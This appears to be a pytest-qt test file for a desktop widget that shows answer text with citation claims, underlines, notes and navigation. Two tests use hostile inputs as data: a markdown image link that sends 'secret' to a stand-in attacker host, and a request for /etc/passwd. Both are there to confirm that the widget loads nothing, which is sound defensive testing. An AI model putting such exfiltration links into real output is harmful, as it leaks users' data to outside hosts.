from __future__ import annotations

from PySide6.QtCore import QPoint, Qt, QUrl
from PySide6.QtGui import QTextCursor, QTextDocument
from PySide6.QtWidgets import QTextBrowser
from pytestqt.qtbot import QtBot

from desktop.theme import Theme
from desktop.widgets.marks import pen
from desktop.widgets.pageview import ContextView
from desktop.widgets.prose import ProseView
from warehouse.render import prose
from warehouse.results.records import Claim

TEXT = "The dam broke [1]. It broke twice [2].\n\nNobody slept."
CLAIMS = (
    Claim(0, 18, "The dam broke [1].", (1,), "supported", "agrees", 0.97),
    Claim(19, 38, "It broke twice [2].", (2,), "partly", "“twice” is not said"),
    Claim(40, 53, "Nobody slept.", (), "not found", "no evidence is cited"),
)


def view(theme: Theme, qtbot: QtBot, notes: bool = False) -> ProseView:
    made = ProseView(theme, "Answer")
    qtbot.addWidget(made)
    made.resize(420, 300)
    made.show_prose(prose(TEXT, CLAIMS, {1, 2}), CLAIMS, notes)
    made.show()
    return made


def test_nothing_is_ever_loaded(theme: Theme, qtbot: QtBot) -> None:
    views: list[QTextBrowser] = [view(theme, qtbot), ContextView(theme)]
    for one in views:
        qtbot.addWidget(one)
        for address in (
            "http://evil.example/x.png",
            "file:///etc/passwd",
            "data:image/png;base64,",
        ):
            for kind in QTextDocument.ResourceType:
                assert one.loadResource(kind.value, QUrl(address)) is None
        assert not one.openLinks()


def test_an_image_in_the_text_is_not_even_asked_for(theme: Theme, qtbot: QtBot) -> None:
    made = ProseView(theme, "Answer")
    qtbot.addWidget(made)
    made.show_prose(prose("See ![x](http://evil.example/?q=secret) here."))
    assert "\ufffc" not in made.toPlainText()
    assert "![x](http://evil.example/?q=secret)" in made.toPlainText()


def test_text_is_kept_whole(theme: Theme, qtbot: QtBot) -> None:
    made = ProseView(theme, "Answer")
    qtbot.addWidget(made)
    made.show_prose(prose("if a<b then <link rel=x the rest\n\nand more"))
    assert made.toPlainText() == "if a<b then <link rel=x the rest\nand more"


def test_a_number_is_clicked(theme: Theme, qtbot: QtBot) -> None:
    made = view(theme, qtbot)
    made.resize(420, made.height())
    spot = next(
        QPoint(x, y)
        for y in range(0, made.height(), 3)
        for x in range(0, made.width(), 3)
        if made.anchorAt(QPoint(x, y)) == "claim:1#e2"
    )
    with qtbot.waitSignal(made.cited) as heard:
        qtbot.mouseClick(made.viewport(), Qt.MouseButton.LeftButton, pos=spot)
    assert heard.args == [1, 2]
    assert made.current() == 1


def test_arrows_walk_from_claim_to_claim_and_stop_at_the_ends(theme: Theme, qtbot: QtBot) -> None:
    made = view(theme, qtbot)
    assert [made.walk(1) for _ in range(4)] == [0, 1, 2, 2]
    assert [made.walk(-1) for _ in range(3)] == [1, 0, 0]
    assert "Supported · agrees" in made.accessibleDescription()


def test_every_claim_has_its_lines(theme: Theme, qtbot: QtBot) -> None:
    made = view(theme, qtbot)
    assert {line.number for line in made._underlines()} == {0, 1, 2}
    place = made.place_of(2)
    assert place is not None
    assert place.bottom() <= made.height()


def test_states_differ_by_line_and_not_by_colour_alone() -> None:
    states = ("quoted", "supported", "partly", "not found")
    pens = [pen(state, "#000000") for state in states]
    looks = {(one.widthF(), one.style(), tuple(one.dashPattern())) for one in pens}
    assert len(looks) == len(states)


def test_ordinary_reading_marks_only_the_exceptions(theme: Theme, qtbot: QtBot) -> None:
    made = view(theme, qtbot)
    plain = made.grab().toImage()
    made.set_proof(True)
    proven = made.grab().toImage()
    accent = theme.tokens.supported.lower()

    def seen(image: object, colour: str) -> int:
        y = round(made._underlines()[0].y)
        return sum(
            image.pixelColor(x, row).name() == colour  # type: ignore[attr-defined]
            for x in range(made.width())
            for row in (y - 1, y, y + 1)
        )

    assert seen(proven, accent) > seen(plain, accent) + 40


def test_notes_say_what_is_wrong(theme: Theme, qtbot: QtBot) -> None:
    made = view(theme, qtbot, notes=True)
    said = made.toPlainText()
    assert "Partly: “twice” is not said  Show" in said
    assert "Not found: no evidence is cited" in said
    assert "Supported" not in said


def test_the_view_is_as_high_as_its_text(theme: Theme, qtbot: QtBot) -> None:
    made = view(theme, qtbot)
    before = made.height()
    made.show_prose(prose(TEXT * 6))
    assert made.height() > before * 2


def test_a_new_theme_keeps_the_text(theme: Theme, qtbot: QtBot) -> None:
    made = view(theme, qtbot)
    said = made.toPlainText()
    theme.choose("dark")
    assert made.toPlainText() == said
    theme.choose("light")


def test_a_cursor_in_a_sentence_selects_none(theme: Theme, qtbot: QtBot) -> None:
    one = view(theme, qtbot)
    cursor = one.textCursor()
    cursor.setPosition(5)
    one.setTextCursor(cursor)
    assert one.selected() == []
    cursor.setPosition(8, QTextCursor.MoveMode.KeepAnchor)
    one.setTextCursor(cursor)
    assert one.selected() == [0]
